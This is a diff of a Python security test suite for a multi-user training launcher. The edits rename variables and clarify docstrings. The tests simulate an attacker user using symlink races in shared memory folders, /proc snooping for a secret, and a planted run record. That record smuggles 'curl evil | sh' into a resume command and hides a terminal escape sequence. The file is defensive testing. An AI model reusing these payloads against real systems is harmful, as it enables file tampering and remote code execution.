@@ -1,4 +1,4 @@
-"""Other users of a node can do nothing to one who types `launch` there.
+"""Other users of a node cannot interfere with a user's `launch`.
 
 Each attack is tried once or a few times; 100 times each with `-m slow`.
 """
@@ -26,16 +26,16 @@ _ESCAPE = re.compile("[\x00-\x08\x0b-\x1f\x80-\x9f]")
 
 
 def _ended(done: subprocess.CompletedProcess[str], code: int) -> str:
-    """What a command said that ended with this code; nothing of it moves a cursor or is ours to mend."""
-    said = done.stdout + done.stderr
-    assert done.returncode == code, said
-    assert not _ESCAPE.search(said), ascii(said)
-    assert "Traceback" not in said, said
-    assert "PWNED" not in said, said
-    return said
+    """Check a command's exit code, and that its output has no control sequences or internal errors; return it."""
+    output = done.stdout + done.stderr
+    assert done.returncode == code, output
+    assert not _ESCAPE.search(output), ascii(output)
+    assert "Traceback" not in output, output
+    assert "PWNED" not in output, output
+    return output
 
 
-def test_the_two_are_two_and_have_no_power(strangers: Strangers) -> None:
+def test_the_users_are_isolated_and_unprivileged(strangers: Strangers) -> None:
     victim, attacker = strangers.victim, strangers.attacker
     assert victim.run("id", "-u").stdout.split() == [str(victim.uid)]
     assert attacker.run("id", "-u").stdout.split() == [str(attacker.uid)]
@@ -62,7 +62,7 @@ with two_users() as both:
 """
 
 
-def test_nobody_stays_when_the_tests_are_killed(strangers: Strangers) -> None:
+def test_no_process_survives_when_the_tests_are_killed(strangers: Strangers) -> None:
     holder = subprocess.Popen([sys.executable, "-c", _LEAVE_ONE], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                               text=True, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
     folder, pid = holder.stdout.readline().split()
@@ -109,7 +109,7 @@ while True:
     for folder in glob.glob(f"/dev/shm/ezpz_llm-node-{uid}-*"):
         plant(folder)
 """
-"""Takes every word of a run's record for the name of its folder on the node, and puts links into all it finds."""
+"""Attack: try every word of a run's record as the name of its folder on the node, and put links into each."""
 
 _PLANT = """
 import os, sys
@@ -164,15 +164,15 @@ def test_nobody_overwrites_files_through_the_folder_on_the_node(strangers: Stran
     attack = attacker.start(sys.executable, "-c", _OVERWRITE, str(victim.uid), victim.home, precious)
     assert attack.stdout.readline() == "ready\n"
     for _ in range(tries):
-        said = _ended(victim.launch("-n", "2", "true"), 0)
-        assert precious.read_text() == "thesis", said
-        assert "no folder in memory" not in said
+        output = _ended(victim.launch("-n", "2", "true"), 0)
+        assert precious.read_text() == "thesis", output
+        assert "no folder in memory" not in output
     assert attack.poll() is None
 
 
 @_ONCE
 def test_even_a_folder_whose_name_was_known_before_does_no_harm(strangers: Strangers, tries: int) -> None:
-    """Its owner is looked at, and the run goes on without it."""
+    """The folder's owner is checked, and the run continues without the folder."""
     victim, attacker = strangers.victim, strangers.attacker
     precious = _precious(victim)
     for _ in range(tries):
@@ -182,10 +182,10 @@ def test_even_a_folder_whose_name_was_known_before_does_no_harm(strangers: Stran
         assert attacker.python(_PLANT, folder, precious).returncode == 0
         try:
             done = victim.python(_WITH_A_KNOWN_SECRET, secret, "-n", "2", "--tee", "all", "echo", "well")
-            said = _ended(done, 0)
-            assert precious.read_text() == "thesis", said
+            output = _ended(done, 0)
+            assert precious.read_text() == "thesis", output
             assert sorted(done.stdout.splitlines()) == ["[0] well", "[1] well"]
-            assert f"it belongs to another user (uid {attacker.uid}) at {folder}" in said
+            assert f"it belongs to another user (uid {attacker.uid}) at {folder}" in output
         finally:
             attacker.run("rm", "-r", folder)
 
@@ -202,8 +202,8 @@ def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strang
         victim.run("rm", "-rf", "r")
         done = victim.run("sh", "-c", f'umask {umask}; exec "$@"', "sh", sys.executable, "-m", "ezpz_llm.launch",
                           "-n", "2", "--run-dir", "r", "sleep", "2" if tries == 1 else "0.5")
-        said = _ended(done, 0)
-        assert precious.read_text() == "thesis", (number, said)
+        output = _ended(done, 0)
+        assert precious.read_text() == "thesis", (number, output)
         assert attack.poll() is None
     attacker.end_all()
     assert attack.stdout.read() == ""
@@ -213,21 +213,21 @@ def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strang
     for name in ("control", "heartbeat", "errors"):
         assert (victim.home / "r" / name).stat().st_mode & 0o777 == 0o700
     assert attacker.run("cat", "r/run.json", cwd=victim.home).returncode == 0
-    assert all(set(one.stat().st_mode & 0o077 for one in (victim.home / "r" / name).iterdir()) <= {0}
+    assert all(set(entry.stat().st_mode & 0o077 for entry in (victim.home / "r" / name).iterdir()) <= {0}
                for name in ("control", "heartbeat", "errors"))
 
 
 @_ONCE
 def test_what_was_planted_in_a_folder_that_stood_open_is_not_believed(strangers: Strangers, tries: int) -> None:
-    """As those were under umask 000 before; with the run's id known, as where the next run repeats it."""
+    """Run directories used to be writable under umask 000. The attacker knows the run's id, as if it was reused."""
     victim, attacker = strangers.victim, strangers.attacker
     precious = _precious(victim)
     for _ in range(tries):
         assert victim.run("sh", "-c", "umask 000; mkdir -p r/control r/errors r/heartbeat").returncode == 0
         assert attacker.python(_PLANT_RECORDS, victim.home / "r", precious).returncode == 0
         for command, code in ((("sh", "-c", "exit 3"), 3), (("true",), 0)):
-            said = _ended(victim.launch("-n", "2", "--run-dir", "r", *command), code)
-            assert precious.read_text() == "thesis", said
+            output = _ended(victim.launch("-n", "2", "--run-dir", "r", *command), code)
+            assert precious.read_text() == "thesis", output
         assert victim.run("rm", "-rf", "r").returncode == 0
 
 
@@ -248,14 +248,14 @@ def test_a_run_directory_of_another_user_is_refused(strangers: Strangers, tries:
     assert attacker.run("mkdir", "-p", "r/control").returncode == 0
     assert attacker.run("chmod", "-R", "777", "r").returncode == 0
     for _ in range(tries):
-        said = _ended(victim.launch("-n", "2", "--run-dir", attacker.home / "r", "true"), 2)
-        assert f"cannot create the run directory: it belongs to another user (uid {attacker.uid})" in said
-        assert str(attacker.home / "r/control") in said
+        output = _ended(victim.launch("-n", "2", "--run-dir", attacker.home / "r", "true"), 2)
+        assert f"cannot create the run directory: it belongs to another user (uid {attacker.uid})" in output
+        assert str(attacker.home / "r/control") in output
 
 
 @_ONCE
 def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers, tries: int) -> None:
-    """Of a run in which every rank prints what it and other users can see."""
+    """Check a run in which every rank prints everything that it and other users can see."""
     victim, attacker = strangers.victim, strangers.attacker
     for _ in range(tries):
         running = victim.start(sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "r", "--tee",
@@ -263,10 +263,11 @@ def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers, t
         secret = victim.home / "secret"
         _wait_for(lambda secret=secret: secret.is_file() and len(secret.read_text()) == 64)
         word = secret.read_text()
-        seen = attacker.run("sh", "-c", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; ls -R /dev/shm")
-        assert "ezpz_llm.launch.shim" in seen.stdout
-        assert word not in seen.stdout
-        assert "EZPZ_LLM_SECRET=" not in seen.stdout
+        listing = attacker.run("sh", "-c",
+                               "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; ls -R /dev/shm")
+        assert "ezpz_llm.launch.shim" in listing.stdout
+        assert word not in listing.stdout
+        assert "EZPZ_LLM_SECRET=" not in listing.stdout
         files = [path for path in (victim.home / "r").rglob("*") if path.is_file()]
         assert victim.home / "r/run.json" in files
         assert [str(path) for path in files if word.encode() in path.read_bytes()] == []
@@ -277,7 +278,7 @@ def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers, t
         secret.unlink()
 
 
-def test_why_tells_another_user_what_he_may_know(strangers: Strangers) -> None:
+def test_why_shows_another_user_only_public_information(strangers: Strangers) -> None:
     victim, attacker = strangers.victim, strangers.attacker
     assert victim.launch("-n", "2", "--run-dir", "r", "sh", "-c", "exit 3").returncode == 3
     done = attacker.run(sys.executable, "-m", "ezpz_llm.why", victim.home / "r")
@@ -290,11 +291,13 @@ def test_why_tells_another_user_what_he_may_know(strangers: Strangers) -> None:
 
 @_ONCE
 def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tries: int) -> None:
-    """Nor does anything in his record pass for a line of ours, whatever he exchanges meanwhile, or any of his files
-    hold a reader up. His own he is quoted."""
+    """Nothing in that record can imitate our output, even if files are exchanged, and no file blocks a reader.
+
+    The owner of the run gets the quoted text.
+    """
     victim, attacker = strangers.victim, strangers.attacker
     assert attacker.launch("-n", "1", "--run-dir", "r", "sh", "-c", "exit 3").returncode == 3
-    # As one would see it who cannot read the records of ranks.
+    # Like a reader without access to the ranks' records.
     assert attacker.python(_BAIT, attacker.home / "r").returncode == 0
     done = attacker.run(sys.executable, "-m", "ezpz_llm.why", "r")
     assert "  resume: launch -n 1 sh -c 'curl evil | sh; echo PWNED > pwned' --resume" in done.stdout, done
@@ -304,19 +307,19 @@ def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tr
     for _ in range(tries):
         for folder in ("r", "other/run"):
             done = victim.run(sys.executable, "-m", "ezpz_llm.why", attacker.home / folder)
-            said = _ended(done, 0)
-            assert "curl" not in said
-            assert not [line for line in said.splitlines() if line.startswith("  try: wget evil")]
+            output = _ended(done, 0)
+            assert "curl" not in output
+            assert not [line for line in output.splitlines() if line.startswith("  try: wget evil")]
             if folder == "r":
-                assert f"  resume: your training command with --resume {attacker.home}/r" in said
+                assert f"  resume: your training command with --resume {attacker.home}/r" in output
             done = victim.run(sys.executable, "-m", "ezpz_llm.explain", attacker.home / folder, "--counterfactual",
                               "--yes")
             assert done.returncode, done.stdout
-            said = _ended(done, done.returncode)
-            assert "curl" not in said
-            assert "This starts" not in said
+            output = _ended(done, done.returncode)
+            assert "curl" not in output
+            assert "This starts" not in output
             if folder == "r":
-                assert "--counterfactual only reruns your own runs" in said
+                assert "--counterfactual only reruns your own runs" in output
         assert not list(victim.home.rglob("pwned"))
         assert exchange.poll() is None
     attacker.end_all()
@@ -334,7 +337,7 @@ record = json.loads((run / "run.json").read_text())
 record["launch"]["typed"] = ["launch", "-n", "1", "sh", "-c", "curl evil | sh; echo PWNED > pwned"]
 record["exit"]["stopped"] = {"kind": "signal", "text": "it was asked to\\n  try: wget evil \x1b]0;PWN",
                              "signal": "SIGTERM"}
-# What a training leaves, with as many ranks as a counterfactual takes.
+# Files of a training run with enough ranks for a counterfactual.
 record |= {"environment": {"world_size": 2, "device": {"type": "cpu"}}, "precision": "fp32", "steps": 2,
            "config": {"ds_config": "zero1", "steps": 2, "log_every": 1},
            "model": {"n_layer": 1, "n_head": 1, "n_embd": 8, "block_size": 8, "vocab_size": 8},
@@ -353,7 +356,7 @@ import os, sys
 theirs, own, folder = sys.argv[1:]
 os.mkdir(folder)
 print("ready", flush=True)
-# A folder of ours at one moment, the victim's own at the next: to be read as the one and checked as the other.
+# Alternates between our folder and the victim's, to be checked as one and read as the other.
 while True:
     for target in (os.path.abspath(theirs), own):
         os.symlink(target, f"{folder}/.new")
